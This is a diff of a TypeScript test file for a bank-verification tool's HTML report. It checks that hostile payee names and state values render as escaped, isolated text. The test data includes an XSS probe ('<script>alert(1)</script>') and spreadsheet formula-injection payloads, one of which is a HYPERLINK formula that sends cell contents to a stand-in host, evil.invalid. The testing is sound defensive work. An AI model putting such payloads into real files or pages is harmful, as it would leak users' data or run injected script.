@@ -9,7 +9,7 @@ import fs from 'node:fs';
 import path from 'node:path';
 import { pathToFileURL } from 'node:url';
 import { test } from 'node:test';
-import { CHROMIUM, openChromium } from './helpers/chromium.js';
+import { CHROMIUM, openChromium, recordPageEvents } from './helpers/chromium.js';
 import { startSandbox } from '../src/sandbox/index.js';
 import { openDatabase } from '../src/state/db.js';
 import { BankStore } from '../src/state/bank-store.js';
@@ -85,6 +85,11 @@ test('hostile values in every field the state holds render as text', (t) => {
       bankSwift: null, bankImps: null, bankNeft: null, bankRtgs: null, bankUpi: null, requestId: evil, verifiedAt: clock,
     });
     store.markDone(run, idx, 'api', r.id, evil);
+    // Its row's decision, every text of it hostile: the name and amount from the file, the codes as the state holds them.
+    store.saveRow({
+      runId: run, row: idx, line: idx + 1, account, ifsc: 'SBIN0001234', name: evil, amount: evil, status: i % 2 === 0 ? 'NOT_VERIFIED' : 'VERIFIED',
+      reasonCode: evil, nameMatch: i % 3 === 0 ? null : evil, nameScore: i, decision: i % 2 === 0 ? 'HOLD' : 'REVIEW', decisionReason: evil,
+    });
     for (const [offset, status] of [[1, 'FAILED'], [2, 'UNCONFIRMED']] as const) {
       store.claim({ runId: run, account: String(400000000000 + idx + offset), ifsc: `${evil.slice(0, 11)}`, firstRow: idx + offset, mode: 'pl', stored: false, retryUnconfirmed: false });
       store.markStatus(run, idx + offset, status, evil, evil);
@@ -102,6 +107,8 @@ test('hostile values in every field the state holds render as text', (t) => {
   const html = renderReport(report);
   assertNoInjectedMarkup(html);
   assert.ok(html.includes('&lt;script&gt;alert(1)&lt;/script&gt;'), 'hostile text is shown, escaped');
+  assert.ok(report.decisions && report.decisions.held.total === 6 && report.decisions.review.total === 5, 'the decision lists are on the page');
+  assert.ok(html.includes('<td><bdi>&lt;script&gt;alert(1)&lt;/script&gt;</bdi></td>'), 'a hostile payee name in a decision list, escaped and isolated');
 
   // What the run records of itself (run_stats): output name, resume command, registry, version, causes, reasons.
   const evilCounts = Object.fromEntries(HOSTILE.map((evil, i) => [evil, i + 1]));
@@ -136,7 +143,10 @@ test('a hostile CSV run end to end: bank --report and report --csv write a page 
   assert.ok(r.code === 0 || r.code === 3, r.stderr);
   const html = fs.readFileSync(path.join(dir, 'run.html'), 'utf8');
   assertNoInjectedMarkup(html);
-  assert.match(html, /Paid at risk/);
+  assert.match(html, /data-testid="held"/, 'the held list, from the state');
+  assert.ok(html.includes('<td><bdi>=HYPERLINK(&quot;http://evil.invalid/?x=&quot;&amp;A1,&quot;Click&quot;)</bdi></td>'), 'a held formula payee name, as the file has it, as text in its own <bdi>');
+  assert.ok(html.includes('<bdi>=HYPERLINK(&quot;http://example.invalid/x&quot;,&quot;N M JAIN&quot;)</bdi>'), 'a formula holder name as the bank sent it: no formula-escape quote');
+  assert.doesNotMatch(html, /&#39;=/, 'no formula-escape artefact on the page');
   const again = await runCli(['report', '--state', 's.sqlite', '--csv', output, '-o', 'again.html'], { cwd: dir });
   assert.equal(again.code, 0, again.stderr);
   assertNoInjectedMarkup(fs.readFileSync(path.join(dir, 'again.html'), 'utf8'));
@@ -152,13 +162,7 @@ test('a hostile CSV run end to end: bank --report and report --csv write a page 
   }
   const context = await openChromium(t);
   const page = context.pages()[0] ?? (await context.newPage());
-  const events: string[] = [];
-  page.on('dialog', (dialog) => {
-    events.push(`dialog ${dialog.message()}`);
-    void dialog.dismiss();
-  });
-  page.on('request', (request) => events.push(`request ${request.url()}`));
-  page.on('pageerror', (error) => events.push(`error ${error.message}`));
+  const events = recordPageEvents(page);
   const url = pathToFileURL(path.join(dir, 'run.html')).href;
   await page.goto(url, { waitUntil: 'load' });
   const active = (await page.evaluate("document.querySelectorAll('script, img, iframe, object, embed, link, base, a, form, input').length")) as number;
